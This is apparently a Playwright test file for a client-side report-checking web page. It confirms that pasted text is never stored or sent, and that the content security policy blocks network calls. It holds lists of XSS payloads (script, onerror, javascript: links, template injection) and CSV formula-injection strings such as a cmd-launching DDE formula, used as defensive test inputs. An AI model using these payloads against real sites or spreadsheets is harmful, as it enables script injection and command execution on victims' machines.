// The text stays in the page, and stays text: nothing of it is kept, sent or said elsewhere, and none of it runs.

import { createServer } from "node:http";
import { expect, NOTHING, REPORT, stored, test } from "./page.mjs";

const FORMS = ["核对单（网页，可打印）", "核对单（Markdown）", "数据表（Excel，XLSX）", "数据（CSV）", "全部结果（JSON）"];
/** Words that stand nowhere but in the text. */
const WORDS = "梧桐巷哨兵";
const SECRET = REPORT.replace("规范行政执法。", `规范行政执法。在${WORDS}办理案件33件，拆除违建3000平米。`);

/** Where in this browser and its address the words can be found. */
const found = async (page) => {
  const places = await page.evaluate(async (words) => {
    const places = {
      address: decodeURIComponent(location.href),
      title: document.title,
      name: globalThis.name,
      state: JSON.stringify(history.state),
      loaded: decodeURIComponent(performance.getEntries().map(({ name }) => name).join()),
    };
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) {
        places[`cached ${decodeURIComponent(request.url)}`] = decodeURIComponent(request.url) + (await (await cache.match(request)).text());
      }
    }
    return Object.keys(places).filter((place) => places[place].includes(words));
  }, WORDS);
  return JSON.stringify(await stored(page)).includes(WORDS) ? [...places, "stored"] : places;
};

test("of a text pasted, checked, fixed, ignored and saved nothing is kept, said or sent", async ({ app, page, baseURL }) => {
  const requests = [];
  const said = [];
  page.on("request", (request) => requests.push(request));
  page.on("console", (message) => said.push(message.text()));
  await page.reload();
  const title = await page.title();
  await app.paste(SECRET);
  await app.tab("问题").click();
  const list = app.panel("问题");
  await list.getByRole("button", { name: "改为“平方米”" }).click();
  await expect(app.text).toHaveValue(/3000平方米/);
  await app.text.press("Control+End");
  await page.keyboard.type(`${WORDS}截止12月底，办案77件。`);
  await list.getByRole("button", { name: "忽略" }).first().click();
  await expect(list.getByText("已忽略（1）")).toBeVisible();
  for (const form of FORMS) await app.save(form);
  await app.button("导出").click();
  await app.button("复制摘要").click();
  await expect(app.button("已复制摘要 ✓")).toBeVisible();
  await app.foot.getByRole("button", { name: "规则说明" }).click();
  await expect(page.getByRole("dialog", { name: "规则说明" })).toContainText("查什么：");
  await page.keyboard.press("Escape");
  await app.drop({ name: `${WORDS}.txt`, bytes: Buffer.from(SECRET) });
  await expect(app.foot).toContainText(`${WORDS}.txt`);

  expect(await found(page)).toEqual([]);
  const { local, ...rest } = await stored(page);
  expect({ ...rest, local: {} }).toEqual(NOTHING);
  // What is ignored is known by hashes.
  expect(Object.keys(local)).toEqual(["fazhi-check.ignored"]);
  expect(local["fazhi-check.ignored"]).toMatch(/^[\w\s,"[\]-]*$/);
  expect(await page.title()).toBe(title);
  expect(page.url()).toBe(baseURL);
  expect(said.filter((words) => words.includes(WORDS))).toEqual([]);
  for (const request of requests.filter((request) => !request.url().startsWith("blob:"))) {
    const url = new URL(request.url());
    expect([request.method(), url.origin, url.search, request.postData()]).toEqual(["GET", new URL(baseURL).origin, "", null]);
    expect(decodeURIComponent(url.href)).not.toContain(WORDS);
    expect((await request.allHeaders()).referer ?? "").toBe("");
  }
});

test("with 本机草稿 on, the words lie nowhere in the clear", async ({ app, page }) => {
  await page.getByRole("switch", { name: "本机草稿" }).check();
  await app.drop({ name: `${WORDS}.txt`, bytes: Buffer.from(SECRET) });
  await expect.poll(async () => (await stored(page)).databases["fazhi-check"]?.length).toBe(1);
  expect(await found(page)).toEqual([]);
  await page.reload();
  await expect(app.text).toHaveValue(SECRET);
  expect(await found(page)).toEqual([]);
});

test("once it is loaded the page needs no network to check", async ({ app, page, context }) => {
  await app.sample();
  await context.setOffline(true);
  await app.text.fill("");
  await app.paste(SECRET);
  await app.tab("问题").click();
  await expect(app.panel("问题").getByText("计量单位不规范").first()).toBeVisible();
});

const RUN = "globalThis.ran=1";
/** What would run, be drawn or turn round somewhere, if it were taken for more than words. */
const HOSTILE = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}><animate onbegin=${RUN}></svg>`,
  `"autofocus onfocus="${RUN}`,
  `</textarea></title></style><script>${RUN}</script>`,
  `]]><script>${RUN}</script><!--`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<a href="javascript:${RUN}">乙</a>[丙](javascript:${RUN})`,
  "{{constructor.constructor('x')()}}${7*7}<%=7*7%>%s%n&lt;b&gt;&#60;",
  "\u202e倒\u202c\u2066隔\u2069\u0001\u001b[31m",
  `<style>*{display:none}</style><base href="//example.org/"><meta http-equiv=refresh content=0>`,
];
const TITLE = `${HOSTILE[0]}青禾镇人民政府2024年度法治政府建设情况报告`;
const LINES = REPORT.split("\n");
const ATTACK = [
  TITLE,
  `${LINES[1]}${HOSTILE[1]}`,
  ...HOSTILE.map((words, at) => `（${"一二三四五六七八九十"[at] ?? "十一"}）${words}。全年办理${words}案件${at + 21}件。`),
  "拆除违建3000平米。",
  ...LINES.slice(4),
].join("\n");

async function isOnlyText(app, page, attack) {
  await expect(app.text).toHaveValue(attack);
  for (const name of ["清单", "结构", "数据", "问题"]) {
    await app.tab(name).click();
    await expect(app.panel(name)).toBeVisible();
    // Findings quote the words that they are about, and none is about these.
    await expect(app.panel(name)).toContainText(name === "问题" ? "平米" : "<script>");
    await expect(page.locator("script:not([data-glue], [nomodule]), iframe, img, style, base, [onerror], [onload], [onbegin], [onfocus], a[href]:not([download])")).toHaveCount(0);
  }
  await app.tab("数据").click();
  await expect(app.panel("数据")).toContainText(HOSTILE[1]);
  await app.tab("清单").click();
  await expect(app.panel("清单").getByText(TITLE).first()).toBeVisible();
  await expect(page).toHaveTitle("法治年报核对");
}

test("a hostile paste is text, in the page and in every file", async ({ app, page, context }) => {
  await app.paste(ATTACK);
  await isOnlyText(app, page, ATTACK);

  const sheet = await app.save(FORMS[0]);
  expect(sheet.name).toMatch(/^[\w（）()·\-—、\u4e00-\u9fff]+_2024年度_核对_[\d-]+\.html$/);
  const opened = await context.newPage();
  await opened.setContent(sheet.text);
  await expect(opened.locator("body")).toContainText(TITLE);
  await expect(opened.locator("script, iframe, img, svg, base, a, [onerror], [onload], [onfocus]")).toHaveCount(0);
  await expect(opened.locator("style")).toHaveCount(1);
  expect(await opened.evaluate(() => globalThis.ran)).toBeUndefined();

  const markdown = (await app.save(FORMS[1])).text;
  expect(markdown).not.toMatch(/(^|[^\\])(<[a-z/!]|\[丙)/m);
  expect(JSON.parse((await app.save(FORMS[4])).text).elements.title.text).toBe(TITLE);
  await app.save(FORMS[2]);
  expect(await page.evaluate(() => globalThis.ran)).toBeUndefined();
});

test("a hostile file is text, its name too", async ({ app, page }) => {
  const name = `${HOSTILE[1]}.txt`;
  const text = `青禾镇的稿子\n${ATTACK}`;
  await app.drop({ name, bytes: Buffer.from(text) });
  await isOnlyText(app, page, text);
  await expect(app.foot).toContainText(name);
  // As a web page it is read for its words, and none of it comes to life.
  await app.drop({ name: "网页.html", bytes: Buffer.from(`<!DOCTYPE html>${ATTACK}`) });
  await expect(app.foot).toContainText("网页.html");
  await expect(page.locator("script:not([data-glue], [nomodule]), img, iframe, svg[onload]")).toHaveCount(0);
  await app.drop({ name, bytes: Buffer.from("%PDF-1.4") });
  await expect(page.getByText(`没有打开“${name}”`).first()).toBeVisible();
  expect(await page.evaluate(() => globalThis.ran)).toBeUndefined();
});

test("of a paste that is markup only its text is taken", async ({ app, page }) => {
  await app.text.focus();
  await page.evaluate((run) => {
    const data = new DataTransfer();
    data.setData("text/html", `<script>${run}</script><img src=x onerror=${run}><b>青禾镇</b>`);
    data.setData("text/plain", "青禾镇");
    document.activeElement.dispatchEvent(new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true }));
  }, RUN);
  await expect(page.locator("script:not([data-glue], [nomodule]), img, main b")).toHaveCount(0);
  expect(await page.evaluate(() => globalThis.ran)).toBeUndefined();
});

test("no cell of a table is a formula", async ({ app }) => {
  const starts = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'", '=HYPERLINK("http://example.org","点")'];
  await app.paste(`${REPORT}${starts.map((start, at) => `${start}甲项目处理案件${at + 31}件。`).join("\n")}\n`);
  const csv = (await app.save(FORMS[3])).text.slice(1);
  const cells = [...csv.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,"\r\n]*))/gm)].map(([, quoted, plain]) => quoted ?? plain);
  expect(cells.filter((cell) => /^'[=+\-@＝＋－＠]/.test(cell)).length).toBeGreaterThanOrEqual(8);
  expect(cells.filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toEqual([]);
});

test("the policy is in force: nothing leads out of the page, nothing written into it runs", async ({ browser, baseURL }) => {
  const page = await (await browser.newContext()).newPage();
  const left = [];
  page.on("requestfinished", (request) => left.push(request.url()));
  page.on("requestfailed", (request) => request.failure().errorText === "csp" || left.push(request.url()));
  await page.goto(baseURL);
  await expect(page.getByRole("textbox", { name: "报告正文" })).toBeVisible();
  const refused = await page.evaluate(async () => {
    const refused = {};
    const tries = {
      fetch: () => fetch("https://example.org/?text"),
      beacon: () => new Promise((done, failed) => {
        addEventListener("securitypolicyviolation", failed, { once: true });
        navigator.sendBeacon("https://example.org/", "text");
      }),
      picture: () => new Promise((done, failed) => Object.assign(new Image(), { onload: done, onerror: failed, src: "https://example.org/x.png" })),
      socket: () => new Promise((done, failed) => Object.assign(new WebSocket("wss://example.org/"), { onopen: done, onerror: failed })),
      code: () => new Promise((done, failed) => setTimeout(() => {
        try {
          done(new Function("return 1")());
        } catch (error) {
          failed(error);
        }
      })),
      markup: () => (document.createElement("div").innerHTML = "<b>x</b>"),
      worker: () => new Worker("https://example.org/x.js"),
      policy: () => globalThis.trustedTypes.createPolicy("another", {}),
      script: () => new Promise((done, failed) => {
        const script = document.createElement("script");
        script.append("globalThis.ran = 1");
        document.body.append(script);
        globalThis.ran ? done() : failed();
      }),
      clipboard: () => navigator.clipboard.readText(),
    };
    for (const [name, act] of Object.entries(tries)) {
      try {
        await act();
        refused[name] = false;
      } catch {
        refused[name] = true;
      }
    }
    return refused;
  });
  expect(Object.keys(refused).filter((name) => !refused[name])).toEqual([]);
  expect(left.filter((url) => !url.startsWith(baseURL))).toEqual([]);
  await page.context().close();
});

test("no other page may frame it", async ({ browser, baseURL }) => {
  const server = createServer((_, response) => response.end(`<!doctype html><iframe src="${baseURL}"></iframe>`));
  await new Promise((listening) => server.listen(0, "127.0.0.1", listening));
  const page = await (await browser.newContext()).newPage();
  const complaint = page.waitForEvent("console", (message) => /frame-ancestors|X-Frame|refused to connect|Content Security Policy/.test(message.text()));
  await page.goto(`http://127.0.0.1:${server.address().port}/`);
  await complaint;
  await expect(page.frameLocator("iframe").getByRole("textbox")).toHaveCount(0);
  await page.context().close();
  server.close();
});
